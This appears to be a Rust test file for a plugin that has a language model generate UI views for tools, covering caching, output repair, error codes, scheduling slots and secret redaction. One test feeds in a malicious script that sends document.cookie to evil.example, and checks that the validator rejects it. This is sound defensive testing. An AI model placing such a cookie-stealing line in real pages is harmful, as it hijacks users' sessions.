//! Tests from a tool call or a job through a provider to a page.

use super::{acting, address, house, page_at, refusal, told, weather};
use crate::{generate::GenerationJobs, page, spec::tests::everything, tools::Ui};
use portcullis_plugin::{
    catalog::Entry,
    http::Reason,
    prelude::*,
    rehearsal::{Page, Rehearsal, Sent},
    serde_json::{self, Value},
};
use std::cell::Cell;

const URL: &str = "http://model.example/v1/chat/completions";
const JOB: &[u8] = br#"{"tool":"get_forecast","anew":false}"#;

/// A rehearsal with a model that gives these answers in turn, then repeats the last one.
fn with_model(says: &[&str]) -> Rehearsal {
    let says: Vec<Value> = says
        .iter()
        .map(|text| {
            json!({
                "model": "fine-1",
                "choices": [{ "message": { "content": text }, "finish_reason": "stop" }],
                "usage": { "prompt_tokens": 10, "completion_tokens": 5 }
            })
        })
        .collect();
    let next = Cell::new(0);
    with_server(move |_| {
        let index = next.get();
        next.set((index + 1).min(says.len() - 1));
        Ok(Page::new(200, says[index].to_string()))
    })
}

fn with_server(answer: impl Fn(&Sent) -> Result<Page, Reason> + 'static) -> Rehearsal {
    house()
        .setting("provider", "chat")
        .setting("model", "fine")
        .setting("base-url", "http://model.example/v1")
        .setting("max-retries", "0")
        .server(URL, answer)
}

fn specification() -> String {
    everything().to_string()
}

/// The last message of the user in the last request.
fn asked(house: &Rehearsal) -> String {
    let sent = house.sent().pop().expect("something was asked");
    let body: Value = serde_json::from_slice(&sent.body).expect("it is JSON");
    body["messages"].as_array().expect("they are").last().expect("there is one")["content"]
        .as_str()
        .expect("it is text")
        .to_owned()
}

#[test]
fn reading_a_view_schedules_its_generation() {
    let house = with_model(&[&specification()]);
    let before = address(&house, "get_forecast");
    let first = page_at(&house, &before);
    assert!(
        page::tests::data(&first)["view"].is_null() && house.sent().is_empty(),
        "reading a view does not wait for the model"
    );
    assert_eq!(house.jobs(), [JOB]);
    house.run_job::<GenerationJobs>(JOB).expect("it works");
    let now = address(&house, "get_forecast");
    assert_ne!(now, before);
    assert_eq!(page::tests::data(&page_at(&house, &before))["view"], everything());
    assert_eq!(house.updated(), [before, now]);
    assert_eq!(house.changed(), [ListKind::Tools, ListKind::Resources]);
    let inspected = told(&house, "inspect", json!({ "toolName": "get_forecast" }));
    assert_eq!(
        (&inspected["madeBy"], &inspected["llmModel"], &inspected["tokens"]),
        (&json!("provider"), &json!("fine-1"), &json!({ "input": 10, "output": 5 }))
    );
    assert_eq!(house.sent().len(), 1);
    let steps: Vec<_> = house
        .logged()
        .into_iter()
        .map(|(_, data)| data["step"].as_str().expect("each is a step").to_owned())
        .collect();
    let expected = ["queue", "generate", "cache", "provider", "validate", "store", "publish"];
    assert_eq!(steps, expected);
}

#[test]
fn without_storage_a_view_is_only_in_the_cache() {
    let house = with_model(&[&specification()]).setting("cache", "false");
    let plain = address(&house, "get_forecast");
    house
        .call::<Ui>(acting("refine", json!({ "toolName": "get_forecast", "feedback": "larger" })))
        .expect("it works");
    let now = address(&house, "get_forecast");
    assert_ne!(now, plain);
    assert_eq!(page::tests::data(&page_at(&house, &now))["view"], everything());
    let inspected = told(&house, "inspect", json!({ "toolName": "get_forecast" }));
    assert_eq!(inspected["refinementHistory"], json!(["larger"]));
    // The store has no trace of the view.
    let house = house.setting("cache", "true");
    assert_eq!(address(&house, "get_forecast"), plain);
    let inspected = told(&house, "inspect", json!({ "toolName": "get_forecast" }));
    assert_eq!(inspected["refinementHistory"], json!([]));
}

#[test]
fn no_view_is_generated_if_it_is_not_wanted() {
    let asked = with_model(&["{}"]).setting("generate", "asked");
    page_at(&asked, &address(&asked, "get_forecast"));
    assert!(asked.jobs().is_empty());
    let job = br#"{"tool":"map","anew":false}"#;
    asked.run_job::<GenerationJobs>(job).expect("there is nothing to do");
    asked
        .run_job::<GenerationJobs>(br#"{"tool":"gone","anew":false}"#)
        .expect("there is nothing to do");
    asked.run_job::<GenerationJobs>(b"{").expect_err("it is no job");
    assert!(asked.sent().is_empty());
}

#[test]
fn refine_generates_a_view_and_reports_it() {
    let house = with_model(&[&specification()]);
    let said = house
        .call::<Ui>(acting(
            "refine",
            json!({ "toolName": "get_forecast", "feedback": "lead with the warmest day" }),
        ))
        .expect("it works")
        .as_text();
    assert!(said.starts_with("UI refined for tool 'get_forecast'. Generation took "), "{said}");
    let asked = asked(&house);
    assert!(
        asked.contains("- lead with the warmest day\n")
            && asked.contains("TOOL NAME: get_forecast"),
        "{asked}"
    );
    assert!(!asked.contains("The last answer of the tool"));
}

#[test]
fn results_are_sent_to_a_provider_only_if_the_operator_allows_it() {
    let house = with_model(&[&specification()])
        .last_result("get_forecast", json!({ "city": "Secretville" }));
    house.run_job::<GenerationJobs>(JOB).expect("it works");
    assert!(!asked(&house).contains("Secretville"));
    let house = house.setting("send-results", "true");
    house.run_job::<GenerationJobs>(JOB).expect("it works");
    assert!(asked(&house).contains("Secretville"));
}

#[test]
fn a_generated_view_is_reused_from_the_cache() {
    let house = with_model(&[&specification()]);
    house.run_job::<GenerationJobs>(JOB).expect("it works");
    house.run_job::<GenerationJobs>(JOB).expect("it works");
    assert_eq!(house.sent().len(), 1, "it was in the cache");
    let said = house
        .call::<Ui>(acting("regenerate", json!({ "toolName": "get_forecast" })))
        .expect("it works")
        .as_text();
    assert!(said.starts_with("UI regenerated for tool 'get_forecast'. Generation took"), "{said}");
    assert_eq!(house.sent().len(), 2, "regenerate ignores the cache");
    let house = house.setting("model", "finer");
    house.run_job::<GenerationJobs>(JOB).expect("it works");
    assert_eq!(house.sent().len(), 3, "another model, another view");
    let house =
        house.catalog_tool(Entry { description: Some("Other words.".to_owned()), ..weather() });
    house.run_job::<GenerationJobs>(JOB).expect("it works");
    assert_eq!(house.sent().len(), 4, "another tool, another view");
    let house = house.setting("cache", "false");
    house.run_job::<GenerationJobs>(JOB).expect("it works");
    assert_eq!(house.sent().len(), 5, "without a cache");
}

#[test]
fn a_faulty_answer_is_repaired_once() {
    for faulty in [
        "I cannot do that.",
        "{",
        "{}",
        "```json\n{\"version\":2}\n```",
        &json!({ "version": 1, "root": { "component": "Text", "text": "{/result/town}" } })
            .to_string(),
    ] {
        let house =
            with_model(&[faulty, &format!("Here you are:\n```json\n{}\n```", specification())]);
        house.run_job::<GenerationJobs>(JOB).expect("the second is right");
        assert_eq!(house.sent().len(), 2, "{faulty}");
        assert!(asked(&house).contains("not accepted"), "{faulty}");

        let house = with_model(&[faulty]);
        let before = address(&house, "get_forecast");
        house.run_job::<GenerationJobs>(JOB).expect_err("neither is right");
        assert_eq!(
            (address(&house, "get_forecast"), house.sent().len()),
            (before.clone(), 2),
            "{faulty}"
        );
        let inspected = told(&house, "inspect", json!({ "toolName": "get_forecast" }));
        assert!(
            inspected["fallbackReason"].as_str().expect("it is told").starts_with("INVALID"),
            "{inspected}"
        );
        page_at(&house, &before);
        assert!(house.jobs().is_empty(), "it is not tried again at once");
    }
}

#[test]
fn a_failure_is_reported_and_the_plain_form_stays() {
    let table: [(u16, Value, &str); 6] = [
        (
            401,
            json!({ "error": { "message": "Incorrect key: sk-abcdefghijklmnop1234." } }),
            "AUTH: status 401: Incorrect key: [redacted].",
        ),
        (
            429,
            json!({ "error": { "code": "insufficient_quota", "message": "no credit" } }),
            "QUOTA",
        ),
        (500, json!({}), "SERVER_ERROR"),
        (404, json!({ "error": { "message": "no such model" } }), "INVALID_REQUEST"),
        (
            200,
            json!({ "choices": [{ "message": { "content": null, "refusal": "no" } }] }),
            "REFUSED",
        ),
        (
            200,
            json!({ "choices": [{ "message": { "content": "{" }, "finish_reason": "length" }] }),
            "TRUNCATED",
        ),
    ];
    for (status, body, code) in table {
        let house = with_server(move |_| Ok(Page::new(status, body.to_string())));
        let said =
            refusal(&house, "refine", json!({ "toolName": "get_forecast", "feedback": "larger" }));
        assert!(said.contains(code) && said.ends_with("Its plain form is shown."), "{said}");
        assert!(
            told(&house, "inspect", json!({ "toolName": "get_forecast" }))["fallbackReason"]
                .as_str()
                .expect("it is told")
                .contains(code)
        );
    }
}

#[test]
fn a_generation_that_takes_too_long_continues_in_the_background() {
    let house = with_server(|_| Ok(Page::new(429, "{}").header("retry-after", "3600")))
        .setting("max-retries", "5");
    let said = house
        .call::<Ui>(acting("refine", json!({ "toolName": "get_forecast", "feedback": "larger" })))
        .expect("it is for later")
        .as_text();
    assert!(said.contains("in the background (RATE_LIMIT"), "{said}");
    assert_eq!(
        (house.jobs().len(), house.sent().len()),
        (1, 1),
        "an hour is longer than the budget"
    );
    // Other generations hold all slots until the time of the call is used up.
    let house = with_model(&[&specification()]).setting("foreground-ms", "300");
    let house = ["slot/0", "slot/1", "slot/2"].into_iter().fold(house, Rehearsal::claimed);
    let said = house
        .call::<Ui>(acting("regenerate", json!({ "toolName": "get_forecast" })))
        .expect("it is for later")
        .as_text();
    assert!(said.contains("other views are being generated"), "{said}");
    assert_eq!(house.jobs(), [br#"{"tool":"get_forecast","anew":true}"#.as_slice()]);
    assert!(house.sent().is_empty());
    // A job that finds no free slot is scheduled again.
    let house = house.setting("background-ms", "300");
    house.run_job::<GenerationJobs>(JOB).expect("it is for later");
    assert_eq!(house.jobs().last().map(Vec::as_slice), Some(JOB));
    // Only one view is generated for a tool at a time.
    let digest = crate::canonical::digest_of(b"get_forecast");
    let house = with_model(&[&specification()])
        .setting("foreground-ms", "300")
        .claimed(&format!("turn/{digest}"));
    let said = house
        .call::<Ui>(acting("regenerate", json!({ "toolName": "get_forecast" })))
        .expect("it is for later")
        .as_text();
    assert!(said.contains("other views are being generated"), "{said}");
    assert!(house.sent().is_empty());
}

#[test]
fn a_generation_takes_whichever_slot_is_free() {
    let slots = ["slot/0", "slot/1", "slot/2"];
    for free in slots {
        let house = with_model(&[&specification()]).setting("foreground-ms", "300");
        let taken = slots.into_iter().filter(|slot| *slot != free);
        let house = taken.fold(house, Rehearsal::claimed);
        let said = house
            .call::<Ui>(acting("regenerate", json!({ "toolName": "get_forecast" })))
            .expect("a slot is free")
            .as_text();
        assert!(!said.contains("other views are being generated"), "{free}: {said}");
        assert_eq!(house.sent().len(), 1, "{free}");
    }
    // One slot is left to calls in the foreground.
    let house = with_model(&[&specification()]).setting("background-ms", "300");
    let house = ["slot/0", "slot/1"].into_iter().fold(house, Rehearsal::claimed);
    house.run_job::<GenerationJobs>(JOB).expect("it is for later");
    assert!(house.sent().is_empty());
}

#[test]
fn the_operators_prompt_is_part_of_every_prompt() {
    let house = with_model(&[&specification()]);
    house.run_job::<GenerationJobs>(JOB).expect("it works");
    assert!(!asked(&house).contains("The operator asks"));
    let house = house.setting("prompt", "Write in Dutch.");
    house.run_job::<GenerationJobs>(JOB).expect("it works");
    assert_eq!(house.sent().len(), 2, "another prompt, another view");
    assert!(asked(&house).contains("all tools:\nWrite in Dutch.\n"), "{}", asked(&house));
}

#[test]
fn a_missing_grant_for_the_providers_host_is_reported() {
    let house = house().setting("provider", "anthropic").setting("model", "m");
    let said =
        refusal(&house, "refine", json!({ "toolName": "get_forecast", "feedback": "larger" }));
    assert!(
        said.contains("https://api.anthropic.com/v1/messages") && said.contains("grants.http"),
        "{said}"
    );
    assert_eq!(house.sent().len(), 1);
}

#[test]
fn prompts_answers_and_pages_are_written_to_the_operators_folders() {
    let folder = tempfile::tempdir().expect("a folder");
    let folder = folder.path();
    let name = folder.to_str().expect("it is text").to_owned();
    let tool =
        Entry { description: Some("Use Bearer abcdefgh12345678 for it.".to_owned()), ..weather() };
    let house = with_model(&["no", &specification()])
        .catalog_tool(tool)
        .setting("debug-dir", &name)
        .setting("export-dir", &name);
    house.run_job::<GenerationJobs>(JOB).expect("it works");
    let mut files: Vec<_> = std::fs::read_dir(folder)
        .expect("it is there")
        .map(|file| file.expect("it is there").file_name().into_string().expect("it is text"))
        .collect();
    files.sort();
    assert_eq!(
        files,
        [
            "get_forecast-rehearsal-1-answer.txt",
            "get_forecast-rehearsal-1-prompt.txt",
            "get_forecast-rehearsal-2-answer.txt",
            "get_forecast-rehearsal-2-prompt.txt",
            "get_forecast-rehearsal-page.html",
            "get_forecast.html",
        ]
    );
    let prompt = std::fs::read_to_string(folder.join(&files[1])).expect("it is there");
    assert!(prompt.contains("Use [redacted] for it.") && !prompt.contains("abcdefgh"), "{prompt}");
    let page = std::fs::read_to_string(folder.join("get_forecast.html")).expect("it is there");
    assert_eq!(page, page_at(&house, &address(&house, "get_forecast")));
}

#[test]
fn documents_are_checked_and_not_shown_when_turned_off() {
    let good = "<!doctype html><html lang=en><title>W</title><p id=c>nothing</p><script>portcullis.listen(({ result }) => { document.getElementById('c').textContent = result ? result.structuredContent.city : ''; });</script></html>";
    let house = with_model(&[good]).setting("documents", "true");
    house.run_job::<GenerationJobs>(JOB).expect("it works");
    let page = page_at(&house, &address(&house, "get_forecast"));
    let document = page::tests::data(&page)["document"].clone();
    assert_eq!(document["program"]["type"], "Program");
    assert!(document["markup"].as_str().expect("it is there").contains("nothing"));
    let shown = address(&house, "get_forecast");
    house.run_job::<GenerationJobs>(JOB).expect("it is in the cache");
    assert_eq!((address(&house, "get_forecast"), house.sent().len()), (shown.clone(), 1));
    // The document is not shown after documents are turned off again.
    let house = house.setting("documents", "false");
    let plain = address(&house, "get_forecast");
    assert_ne!(plain, shown, "another page has another URI");
    assert!(
        page::tests::data(&page_at(&house, &address(&house, "get_forecast")))["document"].is_null()
    );

    let bad = "<p>x</p><script>portcullis.listen(() => { fetch('https://evil.example/' + document.cookie) })</script>";
    let house = with_model(&[bad]).setting("documents", "true");
    house.run_job::<GenerationJobs>(JOB).expect_err("it reaches out");
    let reason = told(&house, "inspect", json!({ "toolName": "get_forecast" }));
    assert!(reason["fallbackReason"].as_str().expect("it is told").contains("fetch"), "{reason}");
    assert!(
        page::tests::data(&page_at(&house, &address(&house, "get_forecast")))["document"].is_null()
    );
}
